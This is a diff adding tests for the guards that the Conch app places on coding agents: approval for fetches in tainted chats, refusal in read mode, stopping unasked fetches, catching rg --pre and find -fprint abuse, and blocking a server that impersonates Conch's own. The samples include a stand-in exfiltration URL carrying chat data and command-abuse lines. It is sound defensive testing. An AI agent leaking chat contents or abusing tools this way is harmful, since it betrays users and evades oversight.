@@ -854,3 +854,122 @@ async def test_the_newest_message_given_moves_on_only_once_its_prompt_was_accept
     await say(api, chat_id, "@Coder acp:heard crash")  # accepted: not given again
     chat = await settled(api, chat_id, 30)
     assert replies(chat)[-1] == "crash: no"
+
+
+# --- the guard on every face: a fetch, the watch's reading forms, Conch's own tools ---
+
+
+def known_as_goose(folder: Path) -> dict[str, Any]:
+    """The scripted agent started as `goose acp`: an agent Conch knows a setting of (Goose's
+    `approve` mode), so it gets a turn in a Read chat."""
+    wrapper = folder / "goose"
+    wrapper.write_text(f'#!/bin/sh\nexec "{sys.executable}" "{AGENT}" "$@"\n')
+    wrapper.chmod(0o755)
+    return {"command": str(wrapper), "args": ["acp"]}
+
+
+async def test_an_untainted_chats_fetch_passes_and_taints_it(api: Api) -> None:
+    await add_coder(api)
+    chat_id = await coding_chat(api, mode="ask")
+    await say(api, chat_id, "@Coder acp:fetch")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat) == ["fetch: yes"]
+    assert not [e for e in chat["events"] if e["type"] == "tool.asking"]
+    assert chat["tainted"] == {"kind": "fetch", "by": "Coder"}
+
+
+@pytest.mark.parametrize(("mode", "answer"), [("ask", True), ("ask", False), ("auto", True)])
+async def test_in_a_tainted_chat_a_fetch_waits_for_the_users_yes(
+    api: Api, mode: str, answer: bool
+) -> None:
+    """Once the chat is tainted (here by the agent's own first fetch), a fetch is a way out for
+    what the chat holds: it asks, and only the user's answer lets it through."""
+    await add_coder(api)
+    chat_id = await coding_chat(api, mode=mode)
+    await say(api, chat_id, "@Coder acp:fetch")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat) == ["fetch: yes"]  # untainted before it: it passed, and tainted
+    await say(api, chat_id, "@Coder acp:fetch")
+    [entry] = await asking(api, chat_id)
+    assert (entry["kind"], entry["title"]) == ("fetch", "Fetch a page")
+    await api("POST", f"conversations/{chat_id}/tools/{entry['call_id']}", {"run": answer})
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat)[-1] == ("fetch: yes" if answer else "fetch: no")
+    assert tool_lines(chat)[-1] == ("fetch", "Fetch a page", "ran" if answer else "skipped")
+
+
+async def test_in_a_tainted_read_chat_a_fetch_is_refused(api: Api, tmp_path: Path) -> None:
+    await add_coder(api, **known_as_goose(tmp_path))
+    chat_id = await coding_chat(api, mode="read")
+    await say(api, chat_id, "@Coder acp:fetch")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat) == ["fetch: yes"]
+    assert chat["tainted"] == {"kind": "fetch", "by": "Coder"}
+    await say(api, chat_id, "@Coder acp:fetch")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat)[-1] == "fetch: no"
+    assert tool_lines(chat)[-1] == ("fetch", "Fetch a page", "refused")
+    assert not [e for e in chat["events"] if e["type"] == "tool.asking"]
+
+
+async def test_a_fetch_done_unasked_in_a_tainted_chat_ends_its_turn(api: Api) -> None:
+    await add_coder(api)
+    chat_id = await coding_chat(api, mode="ask")
+    await say(api, chat_id, "@Coder acp:act fetch https://elsewhere.example/page")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat) == ["acted"]  # untainted before it: its right, and it tainted
+    assert chat["tainted"] == {"kind": "fetch", "by": "Coder"}
+    await say(api, chat_id, "@Coder acp:act fetch https://elsewhere.example/?d=the-chat")
+    chat = await settled(api, chat_id, 30)
+    notes = [m["text"] for m in chat["messages"] if m["role"] == "note"]
+    assert (
+        "Coder ran “Fetch https://elsewhere.example/?d=the-chat” without asking you: its own"
+        " settings allow it. Conch stopped its turn." in notes[-1]
+    )
+    assert replies(chat) == ["acted"]
+
+
+@pytest.mark.parametrize(
+    "command", ["rg --pre ./x.sh foo", "rg --pre=./x.sh foo", "find . -fprint out.txt"]
+)
+async def test_the_watch_stops_a_reading_program_made_to_write_or_run(
+    api: Api, command: str
+) -> None:
+    await add_coder(api)
+    chat_id = await coding_chat(api, mode="ask")
+    await say(api, chat_id, "@Coder acp:act execute rg -n foo src")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat) == ["acted"]  # a form that only reads: no change
+    await say(api, chat_id, f"@Coder acp:act execute {command}")
+    chat = await settled(api, chat_id, 30)
+    notes = [m["text"] for m in chat["messages"] if m["role"] == "note"]
+    assert (
+        f"Coder ran `{command}` without asking you: its own settings allow it. Conch stopped"
+        " its turn." in notes[-1]
+    )
+    assert replies(chat) == ["acted"]
+    _, agent = await api("GET", "agents/coder")
+    assert agent["acp"]["acts_unasked"] is True
+
+
+async def test_a_server_that_calls_itself_conch_notebook_gets_no_pass(api: Api) -> None:
+    """Conch offers its server to each session under a name of its own: a call of the user's
+    or a project's server named `conch-notebook` asks like any other tool call, and done
+    unasked it is a change; a call of the server Conch offered that session passes (its tool
+    judges it when it reaches Conch)."""
+    await add_coder(api)
+    chat_id = await coding_chat(api, mode="ask")
+    await say(api, chat_id, "@Coder acp:tool conch-notebook run_code")
+    [entry] = await asking(api, chat_id)
+    assert (entry["kind"], entry["title"]) == ("other", "mcp__conch-notebook__run_code")
+    await api("POST", f"conversations/{chat_id}/tools/{entry['call_id']}", {"run": False})
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat) == ["tool: no"]
+    await say(api, chat_id, "@Coder acp:tool offered read_notebook")
+    chat = await settled(api, chat_id, 30)
+    assert replies(chat)[-1] == "tool: yes"
+    assert [e["type"] for e in chat["events"]].count("tool.asking") == 1
+    await say(api, chat_id, "@Coder acp:act other mcp__conch-notebook__run_code")
+    chat = await settled(api, chat_id, 30)
+    notes = [m["text"] for m in chat["messages"] if m["role"] == "note"]
+    assert "Coder ran “mcp__conch-notebook__run_code” without asking you" in notes[-1]
